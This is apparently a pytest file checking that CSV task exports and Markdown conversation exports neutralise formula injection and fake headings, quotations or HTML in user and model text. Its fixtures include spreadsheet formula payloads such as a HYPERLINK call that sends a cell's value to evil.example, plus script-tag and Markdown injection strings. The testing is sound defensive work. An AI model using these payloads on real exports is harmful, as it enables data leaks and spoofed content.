"""Exports hold what people and models wrote, and nothing of it becomes a formula, a heading or a turn."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
from typing import Any

import pytest
from markdown_it import MarkdownIt

from actors.rest.conversation_export import as_markdown, turn_as_markdown
from actors.rest.task_export import spreadsheet_cell
from protocol.conversations import Conversation, ConversationTurns, Speaker, Turn
from tests.server_fixture import RunningServer

TRIGGERS = "=+-@＝＋－＠"
SEPARATORS = (
    ";",
    "\t",
    "|",
    "\r",
    "\n",
    "\r\n",
    "\v",
    "\f",
    "\x85",
    "\u2028",
    '";',
    ';"',
    ';""',
    "; ",
    ';" "',
    ";\u00a0",
)
DIALECTS = list(itertools.product(",;|\t", (csv.QUOTE_MINIMAL, csv.QUOTE_NONE)))
TIME = "2026-01-01T00:00:00.000Z"


def written(rows: list[list[str]]) -> str:
    text = io.StringIO()
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows(rows)
    return text.getvalue()


def formulas(text: str, *, dialects: Any = DIALECTS) -> list[str]:
    """Cells that begin as a formula, however a spreadsheet separates them."""
    found = []
    for delimiter, quoting in dialects:
        if (delimiter, quoting) == (",", csv.QUOTE_NONE):
            # A comma without quotation marks would be another format.
            continue
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting):
            for cell in row:
                for line in [cell, *re.split("[\n\r\v\f\x85\u2028\u2029]", cell)]:
                    bare = line.strip(' "\u00a0')
                    if bare[:1] and bare[0] in TRIGGERS:
                        found.append(cell)
    return found


@pytest.mark.parametrize("separator", ["", *SEPARATORS])
@pytest.mark.parametrize("trigger", TRIGGERS)
def test_tx25_no_cell_is_a_formula_whatever_separates_them(trigger: str, separator: str) -> None:
    evil = f'x{separator}{trigger}HYPERLINK("https://evil.example/?"&A1);{trigger}1' if separator else f"{trigger}1+1"
    cells = [evil, evil[1:], [evil, "t"], {"name": evil}, f"plain, {evil}"]
    for order in itertools.permutations(range(len(cells)), 3):
        text = written([["title", "tags", "more"], [spreadsheet_cell(cells[index]) for index in order]])
        assert formulas(text) == []


@pytest.mark.parametrize("text", ["\t=1", "\r=1", "\ntext", "\ttext"])
def test_tx25_no_cell_begins_with_a_tab_or_a_line_break(text: str) -> None:
    assert spreadsheet_cell(text).startswith("'")


def test_tx25_lists_stay_json_and_harmless_text_is_left_alone() -> None:
    tags = ["a;=1+1", "=2", "x\t@y", "plain; text"]
    assert json.loads(spreadsheet_cell(tags)) == tags
    for text in ("a = b", "1-2", "mail@example.org", "a; b", "é漢", "a\nb", "a, -b", ""):
        assert spreadsheet_cell(text) == text
    assert [spreadsheet_cell(one) for one in (None, 1.5, True)] == ["", "1.5", "true"]


async def test_tx25_an_export_of_tasks_has_no_formula_in_any_field(engineless_server: RunningServer) -> None:
    evil = {
        "title": 'y;=HYPERLINK("x")\n=1+1',
        "description": "\n=1+1;@x",
        "tags": ["a;=1", "=2"],
        "assignee": "＝1;+1",
    }
    async with engineless_server.http() as http:
        attachment = {"name": "a;=1", "reference": "=2"}
        made = await http.post("/tasks/me", json={**evil, "attachments": [attachment], "project": "p;-1"})
        assert made.status_code == 201, made.text
        text = (await http.get("/tasks/me/export?format=csv")).text
        exact = (await http.get("/tasks/me/export")).json()["tasks"][0]
    assert formulas(text) == []
    assert {name: exact[name] for name in evil} == evil
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert json.loads(row["tags"]) == evil["tags"]


HOSTILE = [
    "hi\n\n## 2. LeanVibe (2026-01-01T00:00:00.000Z)\n\nI was never said",
    "# title\r## 9. You (x)\r\n### z",
    "heading\n===\n\nother\n---\n",
    "```\nnever ends\n## 3. You (x)",
    "~~~~~~\n`````text\n",
    "````text\n</blockquote>\n````\n## 3. You (x)",
    "</blockquote>\n<h2>3. You</h2>\n<!-- the rest is gone",
    "<script>alert(1)</script> &lt;h2&gt;",
    "> quoted\n> ## 4. You (x)\n- # in a list\n1. # in another",
    "a\u2028## 5. You (x)\u2029## 6. You\x85## 7. You (x)\v## 8. You\f## 9. You",
    "[4. You]: https://evil.example\n[x]",
    "    indented\n\tcode",
    "",
    "\n",
    "\n\n## x\n\n",
    "plain\n\n**bold** and `code`\n\n```python\nx = 1\n```\n",
]


def conversation(*contents: str) -> ConversationTurns:
    turns = [
        Turn(number=number, role=list(Speaker)[number % 2], content=content, time=TIME)
        for number, content in enumerate(contents, 1)
    ]
    about = Conversation(
        conversation="c", created=TIME, updated=TIME, turns=len(turns), forgotten_turns=0, bytes=1, running=None
    )
    return ConversationTurns(conversation=about, turns=turns)


def contents_of(markdown: str) -> list[str]:
    """What was said, by the rule that the export names."""
    found = []
    for part in re.split("^## [^\n]*\n\n", markdown, flags=re.MULTILINE)[1:]:
        plain = re.sub("(\r\n|[\n\r\v\f\x1c-\x1e\x85\u2028\u2029])> ", r"\1", part.rstrip("\n").removeprefix("> "))
        fence = re.fullmatch("(`{4,})text\n(.*)\n\\1", plain, flags=re.DOTALL)
        found.append(plain if fence is None else fence[2])
    return found


def test_tx26_no_text_of_a_turn_becomes_a_heading_or_ends_its_quotation() -> None:
    markdown = as_markdown(conversation(*HOSTILE))
    tokens = MarkdownIt().parse(markdown)
    headings = [tokens[index + 1].content for index, one in enumerate(tokens) if one.type == "heading_open"]
    assert [one.split(".")[0] for one in headings] == ["c", *(str(number) for number in range(1, len(HOSTILE) + 1))]
    inline = [child for one in tokens for child in (one.children or [])]
    assert not [one for one in [*tokens, *inline] if one.type.startswith("html")]
    # Nor does somebody who looks at lines alone find another.
    assert sum(line.startswith("#") for line in markdown.splitlines()) == len(HOSTILE) + 1


def test_tx26_what_was_said_can_be_read_back_to_the_letter() -> None:
    for content in HOSTILE:
        # Empty lines at the very end are the only thing that a reader cannot tell from the export's own.
        assert contents_of(as_markdown(conversation(content, "z"))) == [content, "z"]


def test_tx26_plain_answers_stay_markdown() -> None:
    markdown = turn_as_markdown("1. LeanVibe (t)", HOSTILE[-1])
    assert "````" not in markdown
    assert "> **bold**" in markdown
